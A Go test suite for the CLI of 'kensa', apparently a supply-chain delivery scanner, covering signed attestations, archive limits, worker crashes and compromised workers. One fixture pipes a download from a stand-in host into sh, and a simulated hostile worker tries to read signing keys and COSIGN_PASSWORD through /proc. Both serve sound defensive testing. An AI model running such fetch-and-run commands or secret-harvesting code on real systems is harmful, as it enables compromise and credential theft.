package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"kensa.dev/kensa/analyzers/worker"
	"kensa.dev/kensa/internal/fixture"
	"kensa.dev/kensa/internal/limits"
)

// The test binary serves as kensa's analysis worker, as the kensa binary does: commands
// run here parse files in worker processes (--isolation process, the default).
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[len(os.Args)-1] == worker.Arg {
		os.Exit(worker.Serve())
	}
	os.Exit(m.Run())
}

// kensa runs the command line in this process and returns its exit code and output.
func kensa(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := Run(args, &stdout, &stderr)
	return code, stdout.String(), stderr.String()
}

// writeDelivery writes files (path → content) under a new directory and returns it.
func writeDelivery(t *testing.T, files map[string][]byte) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "delivery")
	for name, b := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// signingKey writes a new P-256 key in PEM and returns its path.
func signingKey(t *testing.T) string {
	t.Helper()
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "sign.pem")
	if err := os.WriteFile(p, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// statement is an in-toto statement as accept writes it.
type statement struct {
	Type          string           `json:"_type"`
	Subject       []map[string]any `json:"subject"`
	PredicateType string           `json:"predicateType"`
	Predicate     map[string]any   `json:"predicate"`
}

// readStatement reads attestation.NAME from dir: the statement itself, or the signed
// payload of its Sigstore bundle.
func readStatement(t *testing.T, dir, name string) ([]byte, statement) {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(dir, "attestation."+name+".intoto.json"))
	if errors.Is(err, os.ErrNotExist) {
		b, err := os.ReadFile(filepath.Join(dir, "attestation."+name+".sigstore.json"))
		if err != nil {
			t.Fatal(err)
		}
		var bundle struct {
			DSSE struct {
				Payload     string `json:"payload"`
				PayloadType string `json:"payloadType"`
				Signatures  []struct {
					Sig string `json:"sig"`
				} `json:"signatures"`
			} `json:"dsseEnvelope"`
		}
		if err := json.Unmarshal(b, &bundle); err != nil || len(bundle.DSSE.Signatures) != 1 {
			t.Fatalf("%s bundle: %v (%d signatures)", name, err, len(bundle.DSSE.Signatures))
		}
		if raw, err = base64.StdEncoding.DecodeString(bundle.DSSE.Payload); err != nil {
			t.Fatal(err)
		}
	} else if err != nil {
		t.Fatal(err)
	}
	var st statement
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return raw, st
}

// downloadPipe is a script a rule at high flags and whose host no declaration lists.
var downloadPipe = []byte("#!/bin/sh\ncurl -fsSL https://updates.evil-example.net/agent.sh | sh\n")

// TestW1RejectSignsNoPass: an acceptance that REJECTs (a script that pipes a download
// into a shell: two findings at high) signs its statements with --sign-key, and every
// signed verdict in them is negative: the VSA says FAILED, the test result FAILED, and no
// signed payload anywhere in the evidence says PASSED.
func TestW1RejectSignsNoPass(t *testing.T) {
	dir := writeDelivery(t, map[string][]byte{"install.sh": downloadPipe, "notes.txt": []byte("release notes\n")})
	out := filepath.Join(t.TempDir(), "ev")
	code, stdout, stderr := kensa(t, "accept", dir, "--out", out, "--sign-key", signingKey(t), "-q")
	if code != ExitFindings || !strings.HasPrefix(stdout, "VERDICT: FAIL") {
		t.Fatalf("exit %d; stdout %s; stderr %s", code, stdout, stderr)
	}
	_, vsaSt := readStatement(t, out, "vsa")
	_, tr := readStatement(t, out, "test-result")
	if vsaSt.Predicate["verificationResult"] != "FAILED" || tr.Predicate["result"] != "FAILED" {
		t.Errorf("signed verdicts of a REJECT: VSA %v, test result %v", vsaSt.Predicate["verificationResult"], tr.Predicate["result"])
	}
	for _, name := range []string{"vsa", "test-result", "sbom"} {
		if raw, _ := readStatement(t, out, name); bytes.Contains(raw, []byte("PASSED")) {
			t.Errorf("the signed %s statement of a REJECT says PASSED: %s", name, raw)
		}
	}
	if m, _ := filepath.Glob(filepath.Join(out, "*.intoto.json")); len(m) != 0 {
		t.Errorf("unsigned statements written beside the signed ones: %v", m)
	}
}

// TestW2SameInputSameStatements: accepting the same delivery twice makes the same three
// statements, byte for byte, once the times are taken out: the VSA's timeVerified and
// the SBOM's metadata.timestamp, and the SBOM's serialNumber, which CycloneDX asks to be
// new for every BOM generated.
func TestW2SameInputSameStatements(t *testing.T) {
	dir := writeDelivery(t, map[string][]byte{
		"install.sh": downloadPipe, "bin/run.sh": []byte("#!/bin/sh\necho hello\n"),
		"pkg.tar.gz": fixture.Gzip(fixture.Tar(fixture.File("etc/app.conf", []byte("port=8080\n")), fixture.File("usr/bin/tool.sh", []byte("#!/bin/sh\nexit 0\n")))),
	})
	var runs [2]map[string][]byte
	for i := range runs {
		out := filepath.Join(t.TempDir(), "ev")
		if code, stdout, stderr := kensa(t, "accept", dir, "--out", out, "-q"); code != ExitFindings {
			t.Fatalf("run %d: exit %d; %s %s", i, code, stdout, stderr)
		}
		runs[i] = map[string][]byte{}
		for _, name := range []string{"vsa", "test-result", "sbom"} {
			raw, _ := readStatement(t, out, name)
			var v map[string]any
			if err := json.Unmarshal(raw, &v); err != nil {
				t.Fatal(err)
			}
			p := v["predicate"].(map[string]any)
			switch name {
			case "vsa":
				if _, ok := p["timeVerified"]; !ok {
					t.Fatalf("the VSA has no timeVerified: %s", raw)
				}
				delete(p, "timeVerified")
			case "sbom":
				delete(p, "serialNumber")
				delete(p["metadata"].(map[string]any), "timestamp")
			}
			runs[i][name], _ = json.Marshal(v)
		}
	}
	for name, first := range runs[0] {
		if !bytes.Equal(first, runs[1][name]) {
			t.Errorf("the %s statements of two runs differ beyond their times:\n%s\n%s", name, first, runs[1][name])
		}
	}
}

// TestW3SubjectsAreDigestsOfTheBytes: every subject of the signed statements is the
// sha256 of the exact bytes delivered, computed here from the files and, for a file
// inside an archive, from the bytes archive/tar yields for it; every delivered file is a
// subject, and the three statements share the same subjects.
func TestW3SubjectsAreDigestsOfTheBytes(t *testing.T) {
	inner := map[string][]byte{"etc/app.conf": []byte("port=8080\n"), "usr/bin/tool.sh": []byte("#!/bin/sh\nexit 0\n")}
	tgz := fixture.Gzip(fixture.Tar(fixture.File("etc/app.conf", inner["etc/app.conf"]), fixture.File("usr/bin/tool.sh", inner["usr/bin/tool.sh"])))
	files := map[string][]byte{"run.sh": []byte("#!/bin/sh\necho hello\n"), "pkg.tar.gz": tgz, "docs/readme.txt": []byte("read me\n")}
	dir := writeDelivery(t, files)
	out := filepath.Join(t.TempDir(), "ev")
	if code, stdout, stderr := kensa(t, "accept", dir, "--out", out, "--sign-key", signingKey(t), "-q"); code != ExitClean {
		t.Fatalf("exit %d; %s %s", code, stdout, stderr)
	}
	want := map[string]string{}
	for name, b := range files {
		want[name] = sha(b)
	}
	zr, err := gzip.NewReader(bytes.NewReader(tgz))
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		want["pkg.tar.gz!"+h.Name] = sha(b)
	}
	var first []map[string]any
	for _, name := range []string{"vsa", "test-result", "sbom"} {
		_, st := readStatement(t, out, name)
		got := map[string]string{}
		for _, s := range st.Subject {
			d, _ := s["digest"].(map[string]any)
			got[s["name"].(string)], _ = d["sha256"].(string)
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s subjects:\n got %v\nwant %v", name, got, want)
		}
		if first == nil {
			first = st.Subject
		} else if !reflect.DeepEqual(first, st.Subject) {
			t.Errorf("%s subjects differ from the VSA's", name)
		}
	}
}

func sha(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// TestW4LimitsAndAnomaliesAttested: a delivery with an entry past a limit and an archive
// with bytes after its end is rejected, and the signed VSA lists the limit that was hit
// (kind limit, naming the entry and the limit), the anomaly, the limits in force, the
// isolation, what was not checked, and marks the SBOM's content as claims.
func TestW4LimitsAndAnomaliesAttested(t *testing.T) {
	dir := writeDelivery(t, map[string][]byte{
		"big.tar":         fixture.Tar(fixture.File("blob.bin", bytes.Repeat([]byte("x"), 8192)), fixture.File("small.txt", []byte("ok"))),
		"trailing.tar.gz": fixture.Gzip(append(fixture.Tar(fixture.File("a.txt", []byte("a"))), "hidden after the end"...)),
	})
	out := filepath.Join(t.TempDir(), "ev")
	code, stdout, stderr := kensa(t, "accept", dir, "--out", out, "--sign-key", signingKey(t), "--limit", "entry-size=3K", "-q")
	if code == ExitClean || !strings.HasPrefix(stdout, "VERDICT: FAIL") {
		t.Fatalf("exit %d; %s %s", code, stdout, stderr)
	}
	_, st := readStatement(t, out, "vsa")
	p := st.Predicate
	b, _ := json.Marshal(p)
	var pred struct {
		Uninspected struct {
			Count int `json:"count"`
			Items []struct{ Path, Kind, Error string }
		} `json:"uninspected"`
		Anomalies struct {
			Count int `json:"count"`
			Items []struct{ Path, Anomaly string }
		} `json:"anomalies"`
		Limits     limits.Limits     `json:"limits"`
		Isolation  string            `json:"isolation"`
		NotChecked []string          `json:"notChecked"`
		Claims     map[string]string `json:"claims"`
	}
	if err := json.Unmarshal(b, &pred); err != nil {
		t.Fatal(err)
	}
	limitHit := false
	for _, u := range pred.Uninspected.Items {
		limitHit = limitHit || (u.Path == "big.tar!blob.bin" && u.Kind == "limit" && strings.Contains(u.Error, "entry-size"))
	}
	if !limitHit || pred.Uninspected.Count != len(pred.Uninspected.Items) {
		t.Errorf("the limit hit on big.tar!blob.bin is not attested: %+v", pred.Uninspected)
	}
	if pred.Anomalies.Count != 1 || pred.Anomalies.Items[0].Path != "trailing.tar.gz" || !strings.Contains(pred.Anomalies.Items[0].Anomaly, "bytes follow the end of the tar archive") {
		t.Errorf("anomalies: %+v", pred.Anomalies)
	}
	if pred.Limits.EntrySize != 3<<10 || pred.Isolation != "process" || len(pred.NotChecked) == 0 || pred.Claims["sbom"] == "" {
		t.Errorf("predicate: %s", b)
	}
}

// forgerArg0 makes the test binary, started as a worker, a compromised one (forge).
const forgerArg0 = "kensa-forging-worker"

// crasherArg0 makes the test binary, started as a worker, one whose parser crashes the
// process on files named boom.sh (crash).
const crasherArg0 = "kensa-crashing-worker"

func init() {
	if len(os.Args) < 2 || os.Args[len(os.Args)-1] != worker.Arg || os.Getenv(worker.WalkEnv) != "" {
		return // not an analysis worker: a walk worker is kensa's own, and starts those
	}
	switch {
	case strings.HasPrefix(os.Args[0], forgerArg0+"|"):
		os.Exit(forge())
	case os.Args[0] == crasherArg0:
		os.Exit(serveLike(func(path string) {
			if strings.HasSuffix(path, "boom.sh") {
				// A parser's helper goroutine indexes by a length the file claims: no
				// recover on the analyzer's stack can catch this panic.
				go func() {
					var table []int
					_ = table[len(path)]
				}()
				select {}
			}
		}))
	}
}

// serveLike speaks the worker protocol (requests on descriptor 3, length-prefixed JSON
// replies on 4): for each request it calls before with the file's path, then answers
// every analyzer with empty facts and no error.
func serveLike(before func(path string)) int {
	conn, err := net.FileConn(os.NewFile(3, "requests"))
	if err != nil {
		return 2
	}
	replies := os.NewFile(4, "replies")
	uc := conn.(*net.UnixConn)
	buf, oob := make([]byte, 64<<10), make([]byte, 1024)
	send := func(v any) error {
		b, _ := json.Marshal(v)
		n := make([]byte, 4)
		binary.BigEndian.PutUint32(n, uint32(len(b)))
		_, err := replies.Write(append(n, b...))
		return err
	}
	if send(map[string]any{"done": true}) != nil { // the worker's hello
		return 2
	}
	for {
		n, _, _, _, err := uc.ReadMsgUnix(buf, oob)
		if err != nil || n == 0 {
			return 0
		}
		var req struct {
			Analyzers []string `json:"analyzers"`
			Path      string   `json:"path"`
		}
		if json.Unmarshal(buf[:n], &req) != nil {
			return 2
		}
		before(req.Path)
		for _, a := range req.Analyzers {
			if send(map[string]any{"analyzer": a, "facts": map[string]any{}}) != nil {
				return 2
			}
		}
		if send(map[string]any{"done": true}) != nil {
			return 2
		}
	}
}

// forge is an analysis worker taken over by a hostile file: it speaks the worker protocol
// (requests on descriptor 3, length-prefixed JSON replies on 4) and answers every
// analyzer with empty facts and no error, as "nothing to see, all clean". It also looks
// for the signing secrets and leaves an empty marker file in the evidence directory for
// each one it reached: its own environment's COSIGN_PASSWORD, kensa's environment through
// /proc, the --sign-key file. The test names the directory and the key file in the
// worker's argv[0], as kensa's command line would name them to a worker reading it.
func forge() int {
	f := strings.Split(os.Args[0], "|")
	if len(f) != 3 || !filepath.IsAbs(f[1]) {
		return 2
	}
	out, key := f[1], f[2]
	mark := func(name string) { os.WriteFile(filepath.Join(out, name), nil, 0o644) }
	if b, err := os.ReadFile(key); err == nil && len(b) > 0 {
		mark("w5-key-file-read")
	}
	if os.Getenv("COSIGN_PASSWORD") != "" {
		mark("w5-own-env-password")
	}
	if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid())); err == nil && bytes.Contains(env, []byte("COSIGN_PASSWORD=")) {
		mark("w5-parent-env-password")
	}
	return serveLike(func(string) {})
}

// TestW5ForgedWorkerCannotForgeAPass: with every analysis worker compromised (answering
// "clean" for every file, and hunting for the signing secrets), what the verdict rests on
// beyond the facts is still decided in kensa's own process: the checksum manifest check
// fails on the file whose bytes do not match it, so the verdict is FAIL and the signed
// VSA says FAILED; the subjects are the digests of the delivered bytes, which the parent
// computed; the worker's environment holds no COSIGN_PASSWORD. What a compromised worker
// can do is logged: suppress the findings that rest on its facts. Where the kernel has
// Landlock, a worker can neither open the key file nor kensa's /proc entries
// (analyzers/worker TestWorkerConfined); without it, it could, and that is logged here.
func TestW5ForgedWorkerCannotForgeAPass(t *testing.T) {
	tool := []byte("#!/bin/sh\necho tool\n")
	files := map[string][]byte{
		"install.sh": downloadPipe,
		"tool.sh":    tool,
		"SHA256SUMS": []byte(sha([]byte("#!/bin/sh\necho the tool the vendor built\n")) + "  tool.sh\n"),
	}
	dir := writeDelivery(t, files)
	t.Setenv("COSIGN_PASSWORD", "w5-secret")
	key := signingKey(t)

	run := func(forged bool) (int, string, statement) {
		out := filepath.Join(t.TempDir(), "ev")
		if err := os.MkdirAll(out, 0o755); err != nil {
			t.Fatal(err)
		}
		if forged {
			arg0 := os.Args[0]
			os.Args[0] = forgerArg0 + "|" + out + "|" + key
			defer func() { os.Args[0] = arg0 }()
		}
		code, stdout, stderr := kensa(t, "accept", dir, "--out", out, "--sign-key", key, "-q")
		if code != ExitFindings || !strings.HasPrefix(stdout, "VERDICT: FAIL") || !strings.Contains(stdout, "check checksum/file failed for tool.sh") {
			t.Fatalf("forged=%v: exit %d; %s %s", forged, code, stdout, stderr)
		}
		_, st := readStatement(t, out, "vsa")
		return code, out, st
	}
	_, hout, honest := run(false)
	_, out, forged := run(true)
	for _, d := range []string{hout, out} {
		r, _ := os.ReadFile(filepath.Join(d, "result.json"))
		var res struct {
			Findings []struct{ Rule, Path string }
		}
		json.Unmarshal(r, &res)
		t.Logf("%s: findings %v", filepath.Base(filepath.Dir(d)), res.Findings)
	}
	if forged.Predicate["verificationResult"] != "FAILED" {
		t.Errorf("with forged workers the VSA says %v", forged.Predicate["verificationResult"])
	}
	want := map[string]string{}
	for name, b := range files {
		want[name] = sha(b)
	}
	for _, s := range forged.Subject {
		name := s["name"].(string)
		if d := s["digest"].(map[string]any)["sha256"]; d != want[name] {
			t.Errorf("subject %s: %v, the bytes hash to %s", name, d, want[name])
		}
	}
	if len(forged.Subject) != len(files) {
		t.Errorf("%d subjects for %d files", len(forged.Subject), len(files))
	}
	if _, err := os.Stat(filepath.Join(out, "w5-own-env-password")); err == nil {
		t.Error("COSIGN_PASSWORD reached the worker's environment")
	}
	for _, m := range []string{"w5-key-file-read", "w5-parent-env-password"} {
		if _, err := os.Stat(filepath.Join(out, m)); err == nil {
			t.Logf("not contained: the compromised worker reached %s", m)
		}
	}
	hu, _ := honest.Predicate["uninspected"].(map[string]any)
	fu, _ := forged.Predicate["uninspected"].(map[string]any)
	t.Logf("honest workers: %v uninspected; forged workers: %v uninspected", hu["count"], fu["count"])
}

// TestG1G2WorkerCrashNamesTheFile: a parser panic that no recover can catch (in a
// goroutine of its own) ends the worker process parsing boom.sh. kensa survives it: the
// file gets an error of kind internal that names it and quotes the worker's last words,
// every other file is listed with its digest, the summary counts the workers that died,
// and the exit code is 2 (could not decide), never 0.
func TestG1G2WorkerCrashNamesTheFile(t *testing.T) {
	dir := writeDelivery(t, map[string][]byte{
		"bin/boom.sh": []byte("#!/bin/sh\necho crash the parser\n"),
		"bin/ok.sh":   []byte("#!/bin/sh\necho fine\n"),
		"notes.txt":   []byte("notes\n"),
	})
	arg0 := os.Args[0]
	os.Args[0] = crasherArg0
	code, stdout, stderr := kensa(t, "scan", dir, "--format", "json")
	os.Args[0] = arg0
	if code != ExitUndecided {
		t.Fatalf("exit %d; stderr %s", code, stderr)
	}
	var res struct {
		Artifacts []struct{ Path, Digest string }
		Errors    []struct{ Path, Kind, Error string }
	}
	if err := json.Unmarshal([]byte(stdout), &res); err != nil {
		t.Fatalf("stdout is not the JSON result: %v\n%s", err, stdout)
	}
	// Each analyzer of the file runs again in a fresh worker after a death, and this
	// crash comes back for each: one error per analyzer, all on boom.sh.
	if len(res.Errors) == 0 {
		t.Error("no error for the file the worker died on")
	}
	for _, e := range res.Errors {
		if e.Path != "bin/boom.sh" || e.Kind != "internal" || !strings.Contains(e.Error, "the analysis process died on this file (panic: runtime error: index out of range") {
			t.Errorf("error %+v", e)
		}
	}
	digests := map[string]bool{}
	for _, a := range res.Artifacts {
		digests[a.Path] = strings.HasPrefix(a.Digest, "sha256:")
	}
	for _, p := range []string{"bin/boom.sh", "bin/ok.sh", "notes.txt"} {
		if !digests[p] {
			t.Errorf("%s not listed with its digest: %+v", p, res.Artifacts)
		}
	}
	if died := regexp.MustCompile(`analysis workers: .*, ([0-9]+) died`).FindStringSubmatch(stderr); died == nil || died[1] != fmt.Sprint(len(res.Errors)) {
		t.Errorf("stderr does not count the worker that died: %s", stderr)
	}
}
